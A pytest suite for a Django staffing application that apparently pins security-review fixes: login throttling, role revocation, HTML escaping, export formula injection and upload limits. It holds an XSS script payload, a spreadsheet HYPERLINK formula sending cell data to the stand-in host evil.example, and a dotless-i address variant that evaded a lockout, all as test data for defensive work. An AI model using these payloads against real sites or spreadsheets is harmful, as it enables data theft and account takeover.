"""Defects found by the security review, each pinned by a test that fails without its fix."""

import csv
import io

import pytest
from django.contrib.auth import SESSION_KEY
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from missions.models import (
    Allocation,
    BoardQuestion,
    Dotation,
    FailedLogin,
    Mission,
    Role,
    RoleGrant,
    StaffMember,
    StsImport,
    User,
)
from missions.services.exports import render_export
from tests import authz_expectations as expected
from tests.factories import (
    DEMO_PASSWORD,
    AllocationFactory,
    EnvelopeFactory,
    MissionFactory,
    StaffMemberFactory,
    UserFactory,
    make_person,
    rate,
)
from tests.test_authorization_matrix import URLS, build_objects

on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="SQLite's LIKE folds ASCII only: no Unicode variant of an address reaches the account there",
)


def sign_in(client, email, password=DEMO_PASSWORD):
    return client.post(reverse("login"), {"username": email, "password": password})


# --- throttling of failed sign-ins ------------------------------------------------------------------


@on_postgresql
def test_a_unicode_variant_of_the_address_does_not_get_fresh_attempts(client, db, settings):
    """PostgreSQL's UPPER('ı') is 'I': "vıctime@…" (dotless i) signs in as victime@… (email__iexact), but
    Python's lower() leaves the ı alone, so failures keyed on the typed address started a new count for
    every variant (2^n for an address with n i's)."""
    settings.LOGIN_MAX_FAILURES = 2
    user = UserFactory(email="victime@example.org")
    # GIVEN the address is locked out
    sign_in(client, "victime@example.org", "devine")
    sign_in(client, "victime@example.org", "devine")
    # WHEN someone tries the right password with a variant that reaches the same account
    response = sign_in(client, "vıctime@example.org")
    # THEN the lock holds, and failures under any variant count against the account's own address
    assert client.session.get(SESSION_KEY) is None, "the variant bypassed the lock"
    assert "Trop de tentatives" in response.content.decode()
    sign_in(client, "vıctıme@example.org", "devine")
    assert set(FailedLogin.objects.values_list("email", flat=True)) == {user.email}


# --- a deputy may not take a head's role away ---------------------------------------------------------


def test_a_deputy_cannot_withdraw_a_heads_role_by_deactivating_their_record(
    client, personas, establishment, school_year
):
    """revoke_role lets only a head remove a head; deactivating a record withdraws its roles too, so it
    must follow the same rule (else a deputy removes a second head by the back door)."""
    # GIVEN two heads this year (the last-head rule does not stand in the way)
    second_head = make_person(establishment, Role.HEAD, email="second-chef@example.org")
    record = StaffMember.objects.get(user=second_head, establishment=establishment)
    client.force_login(personas.deputy)
    # WHEN the deputy deactivates the second head's record
    response = client.post(reverse("staff_deactivate", args=[establishment.uai, record.pk]), follow=True)
    # THEN it is refused with a French message and nothing changed
    assert "Seul un chef d" in response.content.decode()
    assert RoleGrant.objects.filter(user=second_head, role=Role.HEAD, school_year=school_year).exists()
    record.refresh_from_db()
    assert record.active


def test_a_head_can_deactivate_another_heads_record(client, personas, establishment, school_year):
    second_head = make_person(establishment, Role.HEAD, email="second-chef@example.org")
    record = StaffMember.objects.get(user=second_head, establishment=establishment)
    client.force_login(personas.head)
    client.post(reverse("staff_deactivate", args=[establishment.uai, record.pk]))
    assert not RoleGrant.objects.filter(user=second_head, school_year=school_year).exists()
    record.refresh_from_db()
    assert not record.active


# --- user-provided text is escaped everywhere -------------------------------------------------------

PAYLOAD = '<script>alert("xss")</script>'


def test_user_provided_text_is_escaped_on_every_establishment_page(
    client, personas, establishment, school_year
):
    """Names, titles, notes and references typed by users (or read from an STS file) never reach a page raw."""
    objects = build_objects(establishment, school_year, personas)
    StaffMember.objects.update(usage_name=PAYLOAD, first_name=PAYLOAD, grade=PAYLOAD, disciplines=PAYLOAD)
    User.objects.update(first_name=PAYLOAD, last_name=PAYLOAD)
    Mission.objects.filter(establishment=establishment).update(
        title=PAYLOAD, description=PAYLOAD, tasks=PAYLOAD, legal_reference=PAYLOAD
    )
    Allocation.objects.update(note=PAYLOAD)
    Dotation.objects.update(reference=PAYLOAD)
    BoardQuestion.objects.update(text=PAYLOAD, answer=PAYLOAD)
    pages = [(name, params) for name, _, params in URLS if name in expected.ESTABLISHMENT_PAGES]
    assert len(pages) > 20
    raw, shown = [], set()
    for name, params in pages:
        kwargs = {"uai": establishment.uai}
        if "pk" in params:
            obj = expected.ESTABLISHMENT_PAGES[name].obj
            kwargs["pk"] = objects["own_mission" if obj == "national_mission" else obj].pk
        # the head, or someone allowed on a page the head does not open (signing a letter, a CA member's question)
        page_roles = expected.ESTABLISHMENT_PAGES[name].roles
        reader = (
            "head" if "head" in page_roles else ("staff" if "staff" in page_roles else sorted(page_roles)[0])
        )
        client.force_login(getattr(personas, reader))
        response = client.get(reverse(name, kwargs=kwargs), follow=True)
        assert response.status_code == 200, name
        if PAYLOAD.encode() in response.content:
            raw.append(name)
        if b"&lt;script&gt;" in response.content:
            shown.add(name)
    assert not raw, f"Texte non échappé sur : {raw}"
    # the text is really on the pages (escaped), so the check above is not vacuous
    assert {"staff_list", "allocation_list", "mission_list", "person_allocations", "role_list"} <= shown
    assert {"board_answer", "board_version", "board_manage"} <= shown


# --- exports: no formula injection ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Cliquez")'


@pytest.fixture
def export_with_a_formula(establishment, school_year):
    envelope = EnvelopeFactory(establishment=establishment, school_year=school_year)
    teacher = StaffMemberFactory(establishment=establishment, usage_name="Bernard", first_name="+Léa")
    mission = MissionFactory(establishment=establishment, title=FORMULA)
    AllocationFactory(envelope=envelope, staff_member=teacher, mission=mission, rate=rate("003"), count=1)
    return envelope


def test_the_xlsx_export_keeps_a_formula_like_title_as_text(export_with_a_formula):
    content, _, _ = render_export(export_with_a_formula, "person", "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    title = sheet.cell(row=2, column=5)
    assert title.value == FORMULA and title.data_type == "s"


def test_the_csv_export_defuses_cells_a_spreadsheet_would_run(export_with_a_formula):
    content, _, _ = render_export(export_with_a_formula, "person", "csv")
    row = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))[1]
    assert [row[1], row[4]] == ["'+Léa", "'" + FORMULA]
    assert row[7] == "1"  # numbers stay numbers


# --- uploads: a file over the limit is refused while it arrives ---------------------------------------


def test_an_upload_over_ten_megabytes_is_refused_before_it_is_stored(
    client, personas, establishment, settings
):
    """Django used to read the whole body, spooling the file to disk, before the form checked its size."""
    client.force_login(personas.head)
    eleven_megabytes = SimpleUploadedFile("sts_emp_0750654D_2026.xml", b"<" * (11 * 1024 * 1024), "text/xml")
    response = client.post(reverse("sts_import_upload", args=[establishment.uai]), {"file": eleven_megabytes})
    assert response.status_code == 200
    assert "Le fichier dépasse 10 Mo" in response.content.decode()
    assert not StsImport.objects.exists()
    # what reached the form is an empty stand-in, not a temporary file holding the 11 MB
    upload = response.wsgi_request.FILES["file"]
    assert upload.size == 11 * 1024 * 1024
    assert not hasattr(upload, "temporary_file_path")


def test_reading_stops_when_an_upload_is_far_over_the_limit(client, personas, establishment, settings):
    settings.MAX_UPLOAD_SIZE = 1024
    client.force_login(personas.head)
    body = SimpleUploadedFile("sts_emp_0750654D_2026.xml", b"<" * (64 * 1024), "text/xml")
    response = client.post(reverse("sts_import_upload", args=[establishment.uai]), {"file": body})
    assert response.status_code == 200
    assert "file" not in response.wsgi_request.FILES
    # the request was not read to its end
    stream = response.wsgi_request._stream
    assert stream._pos < stream.limit
    assert not StsImport.objects.exists()
